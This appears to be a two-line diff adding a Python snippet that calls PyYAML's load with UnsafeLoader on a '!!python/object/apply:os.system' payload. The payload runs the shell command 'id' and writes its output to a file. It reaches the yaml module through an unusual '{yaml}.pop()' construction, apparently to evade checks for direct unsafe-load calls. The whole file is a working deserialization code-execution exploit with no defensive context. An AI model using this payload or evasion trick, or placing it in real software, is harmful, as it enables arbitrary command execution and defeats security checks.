@@ -1,0 +1,2 @@
+import yaml
+{yaml}.pop().load("!!python/object/apply:os.system ['id>pf']", Loader={yaml}.pop().UnsafeLoader)
